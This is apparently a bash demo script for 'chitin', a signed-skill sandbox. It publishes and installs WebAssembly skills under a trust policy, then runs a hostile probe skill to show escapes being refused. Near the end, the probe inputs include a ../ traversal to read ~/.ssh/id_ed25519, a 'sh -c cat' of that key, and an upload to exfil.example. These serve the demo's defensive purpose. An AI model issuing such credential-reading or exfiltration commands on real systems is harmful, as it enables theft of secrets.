#!/usr/bin/env bash
# The chitin demo: publish skills to a real OCI registry on this machine, audit them
# without running them, install and run them under exactly their grants, and watch
# escapes being refused and recorded. Called by `make demo` after the skills are built.
set -euo pipefail

root="$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)"
skills="${CHITIN_SKILLS_DIR:-$root/target/skills}"
chitin="${CARGO_TARGET_DIR:-$root/target}/debug/chitin"
[ -x "$chitin" ] || cargo build -q -p chitin-host --bin chitin

demo=$(mktemp -d)
registry_pid=""
cleanup() {
  [ -n "$registry_pid" ] && kill "$registry_pid" 2>/dev/null
  rm -rf "$demo"
}
trap cleanup EXIT
export CHITIN_HOME="$demo/chitin-home"

# The real CNCF distribution registry, on a free loopback port.
port=$(python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])')
registry="127.0.0.1:$port"
cat > "$demo/registry.yml" <<YML
version: 0.1
log: { level: error }
storage: { filesystem: { rootdirectory: $demo/registry }, delete: { enabled: true } }
http: { addr: $registry }
YML
docker-registry serve "$demo/registry.yml" >/dev/null 2>&1 &
registry_pid=$!
for _ in $(seq 100); do curl -sf "http://$registry/v2/" >/dev/null && break; sleep 0.1; done

# A command as it can be pasted into a shell: words with anything but safe characters
# in single quotes (JSON arguments, for one).
quoted() {
  local out=() a
  for a in "$@"; do
    if [[ $a =~ ^[A-Za-z0-9_./:@=+,%^-]+$ ]]; then out+=("$a"); else out+=("'${a//\'/\'\\\'\'}'"); fi
  done
  printf '%s' "${out[*]}"
}
step() { printf '\n\033[1m==> %s\033[0m\n$ %s\n' "$1" "${*:2}"; }
run() { step "$1" "$(quoted "${@:2}")"; "${@:2}" || echo "(exit code $?)"; }

# A project to work on, and something worth stealing outside it.
mkdir -p "$demo/project/src" "$demo/home/.ssh" "$demo/ws/ro" "$demo/ws/rw"
printf 'fn main() {\n    // TODO: say hello\n    println!("hi");\n}\n' > "$demo/project/src/main.rs"
printf '# Notes\nTODO: write the README\n' > "$demo/project/NOTES.md"
echo "-----BEGIN OPENSSH PRIVATE KEY----- (demo key)" > "$demo/home/.ssh/id_ed25519"
git -C "$demo/project" init -q && git -C "$demo/project" add -A &&
  git -C "$demo/project" -c user.name=demo -c user.email=demo@example.com commit -qm "First commit"

# The publisher's key (cosign-compatible; the password would normally be asked for).
export CHITIN_PASSWORD="demo password"
run "The publisher creates a signing key" "$chitin" keygen "$demo/acme"

run "Publish file-search and git-reader to the registry, signed in the same step" \
  "$chitin" skill push "$skills/file-search.wasm" "$registry/acme/file-search:0.1.0" \
  --sign-key "$demo/acme.key"
"$chitin" skill push "$skills/git-reader.wasm" "$registry/acme/git-reader:0.1.0" \
  --sign-key "$demo/acme.key" 2>/dev/null
# Someone else publishes next to it, unsigned.
"$chitin" skill push "$skills/probe.wasm" "$registry/evil/helper:0.1.0" 2>/dev/null

# The user's trust policy: acme's key, for acme's namespace only, and never write
# access or secrets for skills from there.
export CHITIN_TRUST_POLICY="$demo/trust.toml"
cat > "$CHITIN_TRUST_POLICY" <<TOML
[[rule]]
repositories = "$registry/acme/*"
keys = ["$demo/acme.pub"]
deny = ["fs-write", "secrets"]
TOML
step "The user trusts acme's key for acme's namespace" "cat $CHITIN_TRUST_POLICY"
cat "$CHITIN_TRUST_POLICY"

run "Verify the signature on its own (stored in cosign's format, and as a Sigstore bundle)" \
  "$chitin" skill verify "$registry/acme/file-search:0.1.0"

run "What does it ask for, and who signed it? (only the OCI manifest is read; nothing runs)" \
  "$chitin" skill audit "$registry/acme/file-search:0.1.0"

run "An unsigned skill from another namespace does not install" \
  "$chitin" skill install "$registry/evil/helper:0.1.0" --yes

run "Install by semver range: pinned to a digest, verified, described, then recorded" \
  "$chitin" skill install "$registry/acme/file-search:^0.1" --yes
"$chitin" skill install "$registry/acme/git-reader:0.1.0" --yes 2>/dev/null

run "Installed skills, and the lock file that reproduces them elsewhere" \
  "$chitin" skill list
cat "$CHITIN_HOME/chitin.lock"

run "Search the project for TODOs: the skill sees only the project, read-only" \
  "$chitin" run file-search search --workspace "$demo/project" \
  --input '{"pattern": "TODO"}'

run "git-reader runs git through the host: declared arguments only, no shell" \
  "$chitin" run git-reader log --workspace "$demo/project" --input '{}'

# The probe is the test suite's hostile skill; its workspace is $demo/ws (ro/ and rw/).
run "An escape: the probe skill tries to read ~/.ssh through ../" \
  "$chitin" run "$skills/probe.wasm" read_file --workspace "$demo/ws" --yes \
  --input "{\"path\": \"/workspace/ro/../../home/.ssh/id_ed25519\"}"

run "The same escape from the probe written in Python (and JavaScript, and C): same refusal" \
  "$chitin" run "$skills/probe-py.wasm" read_file --workspace "$demo/ws" --yes \
  --input "{\"path\": \"/workspace/ro/../../home/.ssh/id_ed25519\"}"

run "Another: it asks the host to run a shell" \
  "$chitin" run "$skills/probe.wasm" exec --workspace "$demo/ws" --yes \
  --input '{"program": "sh", "args": ["-c", "cat ~/.ssh/id_ed25519"]}'

run "And sends data to a host it did not declare" \
  "$chitin" run "$skills/probe.wasm" http --workspace "$demo/ws" --yes \
  --input '{"url": "https://exfil.example/upload"}'

run "A runaway loop is stopped at the declared time limit; the host goes on" \
  "$chitin" run "$skills/probe.wasm" spin --workspace "$demo/ws" --yes --input '{}'

run "Every refusal and stop is in the audit log" "$chitin" log
